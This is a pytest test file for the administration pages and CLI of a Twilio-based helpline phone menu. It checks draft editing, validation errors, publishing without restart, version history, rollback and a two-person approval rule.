"""The administrators' part, without a browser: the /admin pages through Flask's test
client (real login form, real CSRF tokens, real Redis) and the `ivr prompts` / `ivr users`
commands through click's CliRunner. What callers hear is checked with calls signed the
way Twilio signs them, played through the real webhooks (ivr.simulator.SimulatedCall),
usually through a *second* app made from the same settings: another web process, with
its own LiveMenu, that is never restarted.
"""

from __future__ import annotations

import csv
import io
import json
import re
import threading
import time
import tomllib
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from urllib.parse import urlencode

import pytest
import redis
from click.testing import CliRunner
from conftest import Twilio
from twilio.request_validator import RequestValidator
from werkzeug.security import generate_password_hash

from ivr import create_app, i18n, security, services, settings, speech, store
from ivr.cli import main as ivr_main
from ivr.events import Spool
from ivr.menu import MAX_EXAMPLE_CHARS, build, read_shipped, spoken_paths
from ivr.redis_server import RedisServer
from ivr.services import current_menu
from ivr.simulator import Move, SimulatedCall, flask_transport
from ivr.versions import ConfigVersions, LiveMenu

PASSWORD = "correct horse battery"
# Real scrypt, at a lower cost than security.hash_password's so that each login of the
# tests takes milliseconds, not half a second; check_password_hash reads the cost from it.
QUICK_HASH = generate_password_hash(PASSWORD, method="scrypt:1024:8:1")
SIGNED_BASE = "http://ruta.test"
SHIPPED = read_shipped()
ES_GREETING = SHIPPED.prompts["es"]["greeting"]  # "Línea Ruta. Su llamada es confidencial."
EN_GREETING = SHIPPED.prompts["en"]["greeting"]
ADMIN_GETS = ["/admin", "/admin/prompts", "/admin/hotlines", "/admin/history",
              "/admin/audit", "/admin/audit.csv", "/admin/try", "/admin/sessions",
              "/admin/recordings"]
ADMIN_POSTS = ["/admin/prompts", "/admin/hotlines", "/admin/publish", "/admin/approve",
               "/admin/discard", "/admin/rollback", "/admin/try", "/admin/sessions/end",
               "/admin/recordings"]

# A moment as an English reader sees it (ivr.i18n.moment): "Nov 26, 2026, 7:40 AM".
MOMENT_EN = r"[A-Z][a-z]{2} \d{1,2}, \d{4}, \d{1,2}:\d\d\s[AP]M"


# --- a small HTML tree (the standard library's parser; no extra dependency) -------------

VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta",
        "source", "track", "wbr"}


class El:
    def __init__(self, tag: str, attrs: dict, parent: El | None):
        self.tag, self.attrs, self.parent, self.children = tag, attrs, parent, []

    def text(self) -> str:
        return "".join(c if isinstance(c, str) else c.text() for c in self.children)

    def iter(self):
        yield self
        for child in self.children:
            if isinstance(child, El):
                yield from child.iter()

    def all(self, tag: str | None = None, cls: str | None = None, **attrs) -> list[El]:
        found = []
        for el in self.iter():
            if tag and el.tag != tag:
                continue
            if cls and cls not in (el.attrs.get("class") or "").split():
                continue
            if any(el.attrs.get(k.rstrip("_")) != v for k, v in attrs.items()):
                continue
            found.append(el)
        return found

    def one(self, tag=None, cls=None, **attrs) -> El:
        found = self.all(tag, cls, **attrs)
        assert len(found) == 1, f"expected one <{tag} class={cls} {attrs}>, found {len(found)}"
        return found[0]

    def next_element(self) -> El | None:
        siblings = [c for c in self.parent.children if isinstance(c, El)]
        i = siblings.index(self)
        return siblings[i + 1] if i + 1 < len(siblings) else None


class _Builder(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.root = self.current = El("#document", {}, None)

    def handle_starttag(self, tag, attrs):
        el = El(tag, {k: (v if v is not None else "") for k, v in attrs}, self.current)
        self.current.children.append(el)
        if tag not in VOID:
            self.current = el

    def handle_startendtag(self, tag, attrs):
        self.current.children.append(
            El(tag, {k: (v if v is not None else "") for k, v in attrs}, self.current))

    def handle_endtag(self, tag):
        el = self.current
        while el is not None and el.tag != tag:
            el = el.parent
        if el is not None and el.parent is not None:
            self.current = el.parent

    def handle_data(self, data):
        self.current.children.append(data)


def parse(html: str) -> El:
    builder = _Builder()
    builder.feed(html)
    builder.close()
    return builder.root


def flashes(html: str, category: str | None = None) -> list[str]:
    """The flash messages at the top of a page (category "error" for the red ones)."""
    return [p.text().strip() for p in parse(html).all("p", cls="flash")
            if category is None or category in p.attrs["class"].split()]


def problems_next_to(html: str, name: str) -> tuple[str | None, list[str]]:
    """(aria-invalid of the form field `name`, the problems listed right after it)."""
    field = next(el for el in parse(html).iter() if el.attrs.get("name") == name)
    after = field.next_element()
    listed = []
    if after is not None and after.tag == "ul" and "problems" in after.attrs.get("class", ""):
        listed = [li.text().strip() for li in after.all("li")]
        if "aria-describedby" in field.attrs:  # the prompts page ties the two together
            assert field.attrs["aria-describedby"] == after.attrs["id"]
    return field.attrs.get("aria-invalid"), listed


def form_values(html: str, holding: set[str] = frozenset()) -> dict[str, str]:
    """What a browser would send with the page's own edit form (one without action; the
    one holding the fields named in `holding`, where a page has one form per part)."""
    forms = [f for f in parse(html).all("form")
             if f.attrs.get("method") == "post" and not f.attrs.get("action")]
    form = next((f for f in forms if holding <= {el.attrs.get("name") for el in f.iter()}),
                forms[0])
    values = {}
    for el in form.iter():
        name = el.attrs.get("name")
        if not name:
            continue
        if el.tag == "textarea":
            values[name] = el.text()
        elif el.tag == "input":
            values[name] = el.attrs.get("value", "")
        elif el.tag == "select":
            options = el.all("option")
            chosen = [o for o in options if "selected" in o.attrs] or options[:1]
            values[name] = chosen[0].attrs.get("value", "") if chosen else ""
    return values


def csrf_of(html: str) -> str:
    return re.search(r'name="csrf_token" (?:type="hidden" )?value="([^"]+)"', html)[1]


# --- people and calls ----------------------------------------------------------------------


def add_user(app, name: str, role: str, lang: str = "en") -> None:
    """An account that reads the pages in English, the language these tests check them
    in (tests/test_i18n.py reads them in Spanish, every account's default)."""
    services.of(app).staff.save_user(name, role, QUICK_HASH, lang)


DRAFT_SAVED = {"en": "Draft saved. It is not live until you publish it.",
               "es": "Borrador guardado. No entra en vigor hasta que usted lo publique."}
SAVED_WITH_PROBLEMS = {
    "en": "Draft saved, but it cannot be published yet: the problems are listed below.",
    "es": "Borrador guardado, pero todavía no se puede publicar: los problemas se indican "
          "abajo."}
# The forms that change the draft: each names the draft it was made on (a hidden field).
DRAFT_CHANGES = ("/admin/publish", "/admin/approve", "/admin/discard", "/admin/rollback",
                 "/admin/restore", "/admin/recordings")


class Staff:
    """One person at their own browser (a test client, its session cookie), logged in
    through the real login form."""

    def __init__(self, app, name: str, role: str = "admin", add: bool = True,
                 lang: str = "en"):
        if add:
            add_user(app, name, role, lang)
        self.name, self.lang = name, lang
        self.client = app.test_client()
        token = csrf_of(self.client.get("/login").text)
        resp = self.client.post("/login", data={"name": name, "password": PASSWORD,
                                                "csrf_token": token})
        assert resp.status_code == 302, resp.text
        self.token = csrf_of(self.client.get("/reports").text)  # a fresh session's token

    def page(self, path: str) -> str:
        resp = self.client.get(path)
        assert resp.status_code == 200, (path, resp.status_code)
        return resp.text

    def post(self, path: str, data: dict | None = None, csrf: bool = True):
        """POST a form and follow the redirect to the page that shows what happened. A
        change to the draft names the draft as a page shows it now, as a browser's form
        would, unless `data` names one."""
        data = {**({"csrf_token": self.token} if csrf else {}), **(data or {})}
        if path in DRAFT_CHANGES and "draft" not in data:
            data["draft"] = self.revision()
        return self.client.post(path, data=data, follow_redirects=True)

    def revision(self) -> str:
        """The draft as the pages name it now (every edit form's hidden "draft" field)."""
        return parse(self.page("/admin/prompts")).one("input", name="draft").attrs["value"]

    def discard(self):
        """Press "Discard the draft", then confirm."""
        asked = self.post("/admin/discard")
        form = parse(asked.text).one("form", cls="confirm-discard")
        return self.post("/admin/discard", {
            el.attrs["name"]: el.attrs.get("value", "") for el in form.all("input")})

    def edit(self, path: str, changes: dict[str, str]):
        """Open an edit page, change some fields, and press "Save to draft"."""
        values = form_values(self.page(path), set(changes))
        missing = set(changes) - set(values)
        assert not missing, f"no such field on {path}: {missing}"
        resp = self.post(path, {**values, **changes})
        assert resp.status_code == 200
        saved = flashes(resp.text)
        assert DRAFT_SAVED[self.lang] in saved or SAVED_WITH_PROBLEMS[self.lang] in saved
        return resp

    def publish(self, note: str):
        resp = self.post("/admin/publish", {"note": note})
        assert resp.status_code == 200 and resp.request.path == "/admin"
        return resp


def place_call(app, moves=(), dials=()):
    call = SimulatedCall(SIGNED_BASE, app.config["TWILIO_AUTH_TOKEN"],
                         transport=flask_transport(app))
    return call.run(list(moves), list(dials))


def greeting(app) -> str:
    """The first thing a caller hears."""
    return place_call(app).lines[0].text


def hears_within(app, expected: str, seconds: float = 3.0, moves=(), dials=(),
                 line=0) -> str:
    """Call through `app` until line `line` of what the caller hears is `expected`
    (each web process looks for a new version at most once a second); return the last
    text heard."""
    deadline = time.monotonic() + seconds
    while True:
        heard = [ln.text for ln in place_call(app, moves, dials).lines if ln.who == "ruta"]
        if heard[line] == expected or time.monotonic() > deadline:
            return heard[line]
        time.sleep(0.1)


def live_version(redis_client) -> int:
    return int(redis_client.get(store.CONFIG_VERSION) or 0)


def cli(redis_server, *args, input=None):
    runner = CliRunner(env={"REDIS_URL": redis_server.url, "USER": "ops-laura",
                            "RUTA_TWO_PERSON_RULE": "0"})
    return runner.invoke(ivr_main, list(args), input=input)


@pytest.fixture
def other_process(app_config, app):
    """Another web process of the same deployment: its own LiveMenu, never restarted.
    A call is placed through it first, so it is already serving when a change comes."""
    other = create_app(app_config)
    assert greeting(other) == ES_GREETING
    return other


@pytest.fixture
def ana(app):
    return Staff(app, "ana")


# --- 1. publishing: the next call hears it, with no restart -------------------------------


@pytest.mark.slow
def test_a_published_spanish_prompt_is_heard_by_the_next_call_without_restart(
        app, ana, other_process, redis_client):
    new = "Línea Ruta. Le escuchamos, es confidencial."
    ana.edit("/admin/prompts", {"prompt:es:greeting": new})
    # Saved, not published: the draft is listed on /admin, callers still hear the old text.
    overview = ana.page("/admin")
    row = next(tr for tr in parse(overview).all("tr")
               if tr.all("td") and tr.all("td")[0].text() == "Greeting (Español)")
    assert [td.text() for td in row.all("td")][1:] == [ES_GREETING, new]
    assert greeting(other_process) == ES_GREETING
    assert live_version(redis_client) == 0

    resp = ana.publish("warmer greeting")
    assert flashes(resp.text) == ["Version 1 is live: callers hear it from their next call."]
    assert "No draft." in resp.text
    assert hears_within(other_process, new) == new
    assert hears_within(app, new) == new  # the process the admin used, too
    # Only the greeting changed: the rest of the call is as shipped.
    heard = place_call(other_process, [Move("press", "2")]).heard()
    assert "Para la línea del Ministerio del Trabajo, llame usted al 1 2 0." in heard


# --- 2. what publishing refuses, and where the admin is told ------------------------------

LONG_TRANSFER = ("Le comunico con {hotline}. " + "Por favor siga en la línea. " * 10
                 + "No cuelgue.")
PATH_OVER_BUDGET = re.compile(
    r"(Español|English): keys ([0-9 ]+) to (the .+?): (\d+\.\d) spoken seconds "
    r"before the transfer, over the 30 s budget")

NOT_DIALLABLE = ("cannot be dialled by Twilio (a short code or national form); a dial target "
                 "is an E.164 number (+57...) or a SIP URI. Give the number callers dial "
                 "themselves as the number said to callers")
ICBF, LABOUR = "the ICBF child protection line", "the Ministry of Labour line"
# What each field is called where its problems are listed away from it (on /admin, in the
# refusal), for an admin who reads English: names, never ids.
FIELD_NAMES = {
    "prompt:en:greeting": "Greeting (English)",
    "prompt:es:transfer": "Before a transfer (Español)",
    "hotline:labour:dial": "Ministry of Labour line, Dial targets",
    "hotline:icbf:dial": "ICBF child protection line, Dial targets",
    "hotline:icbf:min_answered_seconds":
        "ICBF child protection line, Fewest seconds of a real answer",
    "hotline:labour:say": "Ministry of Labour line, Number said to callers",
    "hotline:labour:fallback": "Ministry of Labour line, Fallback hotline",
    "hotline:icbf:fallback": "ICBF child protection line, Fallback hotline",
}
REFUSED = [  # page, fields sent, each field's problems as said next to it
    pytest.param("/admin/prompts", {"prompt:en:greeting": ""},
                 {"prompt:en:greeting": ["this prompt is empty"]},
                 id="emptied-english-prompt"),
    pytest.param("/admin/prompts", {"prompt:es:transfer": "Le comunico con {hotlin}. No cuelgue."},
                 {"prompt:es:transfer": [
                     "{hotlin} cannot be filled in here; this prompt may use {hotline}"]},
                 id="unknown-placeholder"),
    pytest.param("/admin/hotlines", {"hotline:labour:dial": "+57abc"},
                 {"hotline:labour:dial": ["'+57abc' is not a valid E.164 number"]},
                 id="invalid-e164"),
    pytest.param("/admin/hotlines", {"hotline:icbf:dial": "14A\n+5718000918080"},
                 {"hotline:icbf:dial": [f"'14A' {NOT_DIALLABLE}"]},
                 id="dialled-number-with-letters"),
    pytest.param("/admin/hotlines", {"hotline:labour:dial": "120"},
                 {"hotline:labour:dial": [f"'120' {NOT_DIALLABLE}"]},
                 id="short-code-as-dial-target"),
    pytest.param("/admin/hotlines", {"hotline:icbf:min_answered_seconds": "doce"},
                 {"hotline:icbf:min_answered_seconds":
                  ["the fewest seconds of a real answer must be 0 to 120"]},
                 id="minimum-answer-in-words"),
    pytest.param("/admin/hotlines", {"hotline:labour:say": "uno dos cero"},
                 {"hotline:labour:say":
                  ["the number said to callers must be the digits a caller can dial"]},
                 id="said-number-with-letters"),
    pytest.param("/admin/hotlines", {"hotline:labour:fallback": "nowhere"},
                 {"hotline:labour:fallback": ["fallback 'nowhere' is not a hotline"]},
                 id="unknown-fallback"),
    pytest.param("/admin/hotlines", {"hotline:labour:fallback": "icbf",
                                     "hotline:icbf:fallback": "labour"},
                 {"hotline:icbf:fallback": [f"fallback cycle {ICBF} -> {LABOUR} -> {ICBF}"],
                  "hotline:labour:fallback": [f"fallback cycle {LABOUR} -> {ICBF} -> {LABOUR}"]},
                 id="fallback-cycle"),
]


@pytest.mark.slow
def test_a_published_hotline_number_is_dialled_by_the_next_call_without_restart(
        app, ana, other_process, redis_client):
    """An administrator gives the Labour line, which Twilio could not dial, a real E.164
    number; the next call for work, in another web process, dials it with no restart."""
    assert place_call(other_process, [Move("press", "2")]).dialed[0] == "+5718000522020"
    ana.edit("/admin/hotlines", {"hotline:labour:dial": "+576013300000",
                                 "hotline:labour:say": "601 330 0000"})
    ana.publish("Labour line's E.164 number")
    deadline = time.monotonic() + 3
    while True:
        call = place_call(other_process, [Move("press", "2")], ["busy", "completed"])
        if call.dialed[0] == "+576013300000" or time.monotonic() > deadline:
            break
        time.sleep(0.1)
    assert call.dialed == ["+576013300000", "+5718000522020"]
    assert "Puede llamar usted al 6 0 1, 3 3 0, 0 0 0 0." in call.heard()
    assert live_version(redis_client) == 1


@pytest.mark.slow
def test_an_admin_turns_on_call_screening_and_a_voicemail_is_skipped(
        app, ana, other_process, redis_client):
    """Screening on for ICBF: the next call's ICBF answer hears the whisper; a voicemail,
    which presses no key, is skipped for the national line."""
    call = place_call(other_process, [Move("press", "1")], ["machine", "completed"])
    assert not [ln for ln in call.lines if ln.text.startswith("hears ")]
    ana.edit("/admin/hotlines", {"hotline:icbf:screen": "yes",
                                 "hotline:icbf:min_answered_seconds": "10"})
    overview = [[td.text() for td in tr.all("td")] for tr in parse(ana.page("/admin")).all("tr")
                if tr.all("td")]
    assert ["ICBF child protection line, Screens calls", "false", "true"] in overview
    assert ["ICBF child protection line, Fewest seconds of a real answer", "8", "10"] in overview
    ana.publish("ICBF screens its calls")
    deadline = time.monotonic() + 3
    while True:
        call = place_call(other_process, [Move("press", "1")], ["machine", "completed"])
        whisper = [ln.text for ln in call.lines if ln.who == "hotline"]
        if whisper[0].startswith("hears ") or time.monotonic() > deadline:
            break
        time.sleep(0.1)
    assert whisper[:2] == [
        'hears "Llamada de la línea Ruta: situación de un niño o niña, en español. '
        'Marque 1 para aceptar."', "a machine: no key, Twilio hangs up its side"]
    assert call.dialed == ["+5718000918080", NATIONAL]


@pytest.mark.parametrize("page, changes, expected", REFUSED)
def test_a_broken_draft_is_refused_at_publish_with_the_problem_next_to_its_field(
        app, ana, other_process, redis_client, page, changes, expected):
    ana.edit(page, changes)
    wanted = sorted(f"{FIELD_NAMES[field]}: {p}" for field, problems in expected.items()
                    for p in problems)
    # Listed on /admin before anyone tries to publish...
    overview = parse(ana.page("/admin"))
    assert sorted(li.text() for li in overview.one("ul", cls="problems").all("li")) == wanted

    # ...and publishing is refused, saying exactly why.
    resp = ana.publish("should not go live")
    assert sorted(flashes(resp.text, "error")) == wanted
    assert live_version(redis_client) == 0
    assert ana.page("/admin/history").count("<tr data-version") == 1  # only version 0
    assert redis_client.get(store.CONFIG_DRAFT)  # the draft is kept, to be fixed

    # On the edit page, each problem is next to the field it is about.
    html = ana.page(page)
    for name, problems in expected.items():
        invalid, listed = problems_next_to(html, name)
        assert listed == problems, name
        if not name.endswith(":fallback"):
            assert invalid == "true", name
    # No other field is marked.
    marked = {el.attrs["name"] for el in parse(html).iter()
              if el.attrs.get("aria-invalid") == "true"}
    assert marked <= set(expected)

    # Callers never heard any of it.
    assert greeting(other_process) == ES_GREETING
    heard = place_call(other_process, [Move("press", "1")], ["busy"])
    assert heard.dialed == ["+5718000918080", "+5718000522020"]


def test_hours_typed_in_spanish_or_english_are_stored_one_way_and_shown_in_spanish(
        app, redis_client):
    """`lun-vie 08:00-17:00` and `mon-fri 08:00-17:00` are the same hours: the draft and
    the published version hold one form (the one config files use), and the page, its
    overview and the history show the days in Spanish, the staff's default language."""
    ana = Staff(app, "ana", lang="es")
    stored = []
    for typed in ("lun-vie 08:00-17:00", "mon-fri 08:00-17:00"):
        ana.edit("/admin/hotlines", {"hotline:labour:hours": typed})
        draft = json.loads(redis_client.get(store.CONFIG_DRAFT))["doc"]
        stored.append(draft["hotlines"]["labour"]["hours"])
    assert stored == [["mon-fri 08:00-17:00"], ["mon-fri 08:00-17:00"]]

    html = ana.page("/admin/hotlines")
    assert form_values(html)["hotline:labour:hours"] == "lun-vie 08:00-17:00"
    assert form_values(html)["hotline:icbf:hours"] == "24/7"
    assert problems_next_to(html, "hotline:labour:hours") == (None, [])
    pending = {tr.all("td")[0].text(): [td.text() for td in tr.all("td")[1:]]
               for tr in parse(ana.page("/admin")).one("table", cls="diff").all("tr")
               if tr.all("td")}
    assert pending == {"Línea del Ministerio del Trabajo, Horario de atención":
                       ["24/7", "lun-vie 08:00-17:00"]}

    ana.publish("Labour line's office hours")
    assert json.loads(redis_client.hget(store.config_version_key(1), "doc"))["hotlines"] == {
        "labour": {"hours": ["mon-fri 08:00-17:00"]}}
    diff = parse(ana.page("/admin/history?from=0&to=1")).one("table", cls="diff")
    assert [[td.text() for td in tr.all("td")] for tr in diff.all("tr") if tr.all("td")] == [
        ["Línea del Ministerio del Trabajo, Horario de atención", "24/7",
         "lun-vie 08:00-17:00"]]

    # Saving the page again as shown changes nothing.
    ana.edit("/admin/hotlines", {})
    assert json.loads(redis_client.get(store.CONFIG_DRAFT))["doc"]["hotlines"] == {
        "labour": {"hours": ["mon-fri 08:00-17:00"]}}


def test_unreadable_hours_are_refused_and_named_in_spanish_next_to_their_field(
        app, redis_client):
    """A misspelt day stops the publish; the hotlines page keeps what was typed and says
    which day it did not understand, in Spanish, as do the overview and the refusal."""
    ana = Staff(app, "ana", lang="es")
    ana.edit("/admin/hotlines", {"hotline:labour:hours": "lnu-vie 08:00-17:00"})
    problem = "Línea del Ministerio del Trabajo, Horario de atención: día desconocido «lnu»"
    overview = parse(ana.page("/admin"))
    assert [li.text() for li in overview.one("ul", cls="problems").all("li")] == [problem]
    assert flashes(ana.publish("should not go live").text, "error") == [problem]
    assert live_version(redis_client) == 0

    html = ana.page("/admin/hotlines")
    assert form_values(html)["hotline:labour:hours"] == "lnu-vie 08:00-17:00"
    assert problems_next_to(html, "hotline:labour:hours") == (
        "true", ["día desconocido «lnu»"])


def test_a_prompt_that_makes_a_path_too_long_is_refused_and_shown_on_the_prompts_page(
        app, ana, redis_client):
    ana.edit("/admin/prompts", {"prompt:es:transfer": LONG_TRANSFER})
    resp = ana.publish("longer transfer message")
    refused = flashes(resp.text, "error")
    assert refused, "a path over 30 spoken seconds was published"
    paths = [PATH_OVER_BUDGET.fullmatch(p) for p in refused]
    assert all(paths), refused
    assert {m[1] for m in paths} == {"Español"}  # only the Spanish paths got longer
    # every Spanish path that rings a line (the others end on the number they read)
    assert {f"{m[2]} -> {m[3]}" for m in paths} == {
        "1 -> the ICBF child protection line", "3 -> the National Anti-Trafficking Line",
        "4 2 -> the Bogotá Mayor's Office", "5 -> the National Anti-Trafficking Line"}
    assert all(float(m[4]) > 30 for m in paths)
    assert live_version(redis_client) == 0
    # The prompts page lists them above the prompts (a path is not one field).
    tree = parse(ana.page("/admin/prompts"))
    listed = [li.text() for ul in tree.all("ul", cls="problems") for li in ul.all("li")]
    assert sorted(listed) == sorted(refused)


def test_a_publish_needs_a_note(app, ana, redis_client):
    ana.edit("/admin/prompts", {"prompt:es:goodbye": "Gracias por llamar. Hasta pronto."})
    for note in ("", "   "):
        resp = ana.publish(note)
        assert flashes(resp.text, "error") == ["a short note saying what changed is required"]
    assert live_version(redis_client) == 0
    assert ana.publish("shorter goodbye").status_code == 200
    assert live_version(redis_client) == 1


# --- 3. versions, history, diff, rollback, discard -------------------------------------------


def test_versions_are_numbered_immutable_and_listed_with_who_when_and_note(
        app, ana, redis_client):
    first = "Línea Ruta. Primera versión."
    second = "Línea Ruta. Segunda versión."
    ana.edit("/admin/prompts", {"prompt:es:greeting": first})
    assert flashes(ana.publish("first try").text) == [
        "Version 1 is live: callers hear it from their next call."]
    stored_v1 = redis_client.hgetall(store.config_version_key(1))
    bob = Staff(app, "bob")
    bob.edit("/admin/prompts", {"prompt:es:greeting": second,
                                "prompt:en:invalid": "Sorry, I did not catch that."})
    assert flashes(bob.publish("second try").text) == [
        "Version 2 is live: callers hear it from their next call."]
    # Version 1 is exactly as it was.
    assert redis_client.hgetall(store.config_version_key(1)) == stored_v1
    assert json.loads(stored_v1["doc"]) == {"prompts": {"es": {"greeting": first}}}

    tree = parse(ana.page("/admin/history"))
    rows = {tr.attrs["data-version"]: [td.text().strip() for td in tr.all("td")]
            for tr in tree.all("tr") if "data-version" in tr.attrs}
    assert list(rows) == ["2", "1", "0"]  # newest first, then the shipped files
    assert rows["2"][:2] == ["2 (live)", "bob"] and rows["2"][3] == "second try"
    assert rows["1"][:2] == ["1", "ana"] and rows["1"][3] == "first try"
    for number in ("2", "1"):
        assert re.fullmatch(MOMENT_EN, rows[number][2]), rows  # CLDR's, Bogotá time
    assert rows["0"][3] == "The shipped files"
    # Versions 1 and 0 offer a rollback (version 2 is live).
    assert [f.one("input", name="version").attrs["value"]
            for f in tree.all("form", cls="rollback")] == ["1", "0"]

    # The diff between the two lists the changed prompts with old and new text, only them.
    diff = parse(ana.page("/admin/history?from=1&to=2")).one("table", cls="diff")
    assert [th.text() for th in diff.all("th")] == ["What", "Version 1", "Version 2"]
    changes = {tr.all("td")[0].text(): [td.text() for td in tr.all("td")[1:]]
               for tr in diff.all("tr") if tr.all("td")}
    assert changes == {
        "Greeting (Español)": [first, second],
        "When the answer is not understood (English)": [
            SHIPPED.prompts["en"]["invalid"], "Sorry, I did not catch that."],
    }
    # Against the shipped files (version 0).
    changes = {tr.all("td")[0].text(): [td.text() for td in tr.all("td")[1:]]
               for tr in parse(ana.page("/admin/history?from=0&to=1")).one(
                   "table", cls="diff").all("tr") if tr.all("td")}
    assert changes == {"Greeting (Español)": [ES_GREETING, first]}
    resp = ana.client.get("/admin/history?from=7&to=1")
    assert flashes(resp.text, "error") == ["Pick two versions that exist."]


@pytest.mark.slow
def test_rollback_makes_a_new_version_with_the_old_text_and_the_next_call_hears_it(
        app, ana, other_process, redis_client):
    good, bad = "Línea Ruta. Texto bueno.", "Línea Ruta. Texto con un error."
    ana.edit("/admin/prompts", {"prompt:es:greeting": good})
    ana.publish("good text")
    ana.edit("/admin/prompts", {"prompt:es:greeting": bad})
    ana.publish("oops")
    assert hears_within(other_process, bad) == bad

    resp = ana.post("/admin/rollback", {"version": "1", "note": ""})
    assert flashes(resp.text, "error") == ["a short note saying why is required"]
    resp = ana.post("/admin/rollback", {"version": "9", "note": "typo"})
    assert flashes(resp.text, "error") == ["there is no version 9"]
    assert live_version(redis_client) == 2

    resp = ana.post("/admin/rollback", {"version": "1", "note": "the new text had an error"})
    assert resp.request.path == "/admin/history"
    assert flashes(resp.text) == ["Rolled back: version 3 is live."]
    assert live_version(redis_client) == 3
    v = ConfigVersions(redis_client, SHIPPED)
    assert v.document(3) == v.document(1)
    assert (v.version(3).note, v.version(3).rollback_of) == ("the new text had an error", 1)
    assert v.version(3).shown_note == "rollback to version 1: the new text had an error"
    assert v.version(3).kind == "rollback"
    assert v.document(2) == {"prompts": {"es": {"greeting": bad}}}  # kept as it was
    assert hears_within(other_process, good) == good

    # Back to the shipped files (version 0) works the same way.
    resp = ana.post("/admin/rollback", {"version": "0", "note": "back to the files"})
    assert flashes(resp.text) == ["Rolled back: version 4 is live."]
    assert hears_within(other_process, ES_GREETING) == ES_GREETING


def test_discarding_drops_the_draft(app, ana, other_process, redis_client):
    edited = "Línea Ruta. Un borrador."
    ana.edit("/admin/prompts", {"prompt:es:greeting": edited})
    assert edited in parse(ana.page("/admin")).text()
    resp = ana.discard()
    assert flashes(resp.text) == [
        "Draft discarded. It is kept in the history, where it can be brought back."]
    assert "No draft." in resp.text
    assert redis_client.get(store.CONFIG_DRAFT) is None
    prompts = parse(ana.page("/admin/prompts"))
    assert prompts.one("textarea", name="prompt:es:greeting").text() == ES_GREETING
    resp = ana.publish("nothing to publish")
    assert flashes(resp.text, "error") == ["there is no draft to publish"]
    assert live_version(redis_client) == 0
    assert greeting(other_process) == ES_GREETING


# --- 4. two-person rule ----------------------------------------------------------------------


@pytest.mark.slow
def test_two_person_rule_needs_a_second_admin_before_callers_hear_it(
        app_config, redis_client):
    strict = create_app({**app_config, "RUTA_TWO_PERSON_RULE": 1})
    other = create_app({**app_config, "RUTA_TWO_PERSON_RULE": 1})
    assert greeting(other) == ES_GREETING
    new = "Línea Ruta. Revisado por dos personas."
    ana = Staff(strict, "ana")
    ana.edit("/admin/prompts", {"prompt:es:greeting": new})
    resp = ana.publish("reviewed greeting")
    assert flashes(resp.text) == [
        "Waiting for a second administrator to approve it (two-person rule)."]
    assert live_version(redis_client) == 0
    # The publisher sees the request, with the approve button disabled for her...
    button = parse(ana.page("/admin")).one("form", action="/admin/approve").one("button")
    assert "disabled" in button.attrs
    # ...and approving it herself anyway is refused.
    resp = ana.post("/admin/approve")
    assert flashes(resp.text, "error") == ["the two-person rule needs another admin to approve"]
    assert live_version(redis_client) == 0
    time.sleep(1.05)  # let `other` look at the version counter again: still nothing new
    assert greeting(other) == ES_GREETING

    bob = Staff(strict, "bob")
    page = parse(bob.page("/admin"))
    assert "ana asked to publish it: “reviewed greeting”." in page.one(
        "form", action="/admin/approve").text()
    assert "disabled" not in page.one("form", action="/admin/approve").one("button").attrs
    resp = bob.post("/admin/approve")
    assert flashes(resp.text) == ["Approved: version 1 is live."]
    assert hears_within(other, new) == new
    row = next(tr for tr in parse(bob.page("/admin/history")).all("tr")
               if tr.attrs.get("data-version") == "1")
    assert row.all("td")[1].text() == "ana, approved by bob"
    actions = [(e["who"], e["action"]) for _, e in redis_client.xrange(store.AUDIT)]
    assert ("ana", "publish requested") in actions
    assert ("ana", "publish") in actions
    assert "(approved by bob)" in redis_client.xrange(store.AUDIT)[-1][1]["detail"]


def test_an_approval_applies_only_to_the_draft_the_approver_saw(app_config, redis_client):
    """Ana changes the draft after Bob opened the page: Bob's click publishes nothing."""
    strict = create_app({**app_config, "RUTA_TWO_PERSON_RULE": 1})
    ana, bob = Staff(strict, "ana"), Staff(strict, "bob")
    ana.edit("/admin/prompts", {"prompt:es:greeting": "Línea Ruta. Versión revisada."})
    ana.publish("reviewed greeting")
    seen = parse(bob.page("/admin")).one("form", action="/admin/approve").one(
        "input", name="draft").attrs["value"]
    ana.edit("/admin/prompts", {"prompt:es:greeting": "Línea Ruta. Cuelgue y llame mañana."})
    ana.publish("another greeting")
    resp = bob.post("/admin/approve", {"draft": seen})
    assert resp.status_code == 409
    moved = parse(resp.text)
    assert "Nothing was changed: your page showed an older draft." in moved.one(
        "section", cls="moved").text()
    # What Ana changed since, word by word: the words she took out and put in.
    row = moved.one("section", cls="theirs").one("table", cls="diff").all("tr")[1]
    assert [d.text() for d in row.all("del")] == ["Versión revisada."]
    assert [i.text() for i in row.all("ins")] == ["Cuelgue y llame mañana."]
    assert live_version(redis_client) == 0


# --- 4b. a line that gets callers' real numbers: always two people ------------------------
# The emergency line (show_caller = true) sees the caller's own number. Pointing it at
# another phone, or giving another line the numbers, needs a second admin even with
# RUTA_TWO_PERSON_RULE off (as in these tests' app).

MENU = "/voice/menu?l=es&s=1&n=welcome&a=0"  # the first question, as /voice names it
OUR_NUMBER = "+576015550100"  # the `To` of the signed requests: the line's own number
NATIONAL = "+5718000522020"  # the default line, as shipped


def dial_of(app, key: str) -> ET.Element:
    """The <Dial> Twilio gets from `app` for a caller pressing `key` at the first question."""
    return Twilio(app.test_client()).twiml(MENU, Digits=key).find("./Dial")


def dial_within(app, key: str, check, seconds: float = 3.0) -> ET.Element:
    """Ask `app` until its <Dial> for `key` passes `check` (a process looks for a new
    version at most once a second); return the last one."""
    deadline = time.monotonic() + seconds
    while True:
        dial = dial_of(app, key)
        if check(dial) or time.monotonic() > deadline:
            return dial
        time.sleep(0.1)


def first_target(dial: ET.Element) -> str:
    return dial.find("./Number").text.strip()


@pytest.mark.slow
def test_one_admin_cannot_change_the_emergency_lines_dial_target_alone(
        app, ana, other_process, redis_client):
    assert not settings.two_person_rule(app.config)
    # The hotlines page says which line gets callers' numbers, next to that line only.
    page = parse(ana.page("/admin/hotlines"))
    warned = [fs.attrs["id"] for fs in page.all("fieldset", cls="hotline")
              if fs.all("p", cls="warning")]
    assert warned == ["hotline-emergency"]
    assert "This line receives the caller's real number." in page.one(
        "fieldset", id="hotline-emergency").one("p", cls="warning").text()
    # No target of its own yet: someone in danger who stays is put through to the
    # national line, which sees our number.
    assert first_target(dial_of(other_process, "0")) == NATIONAL

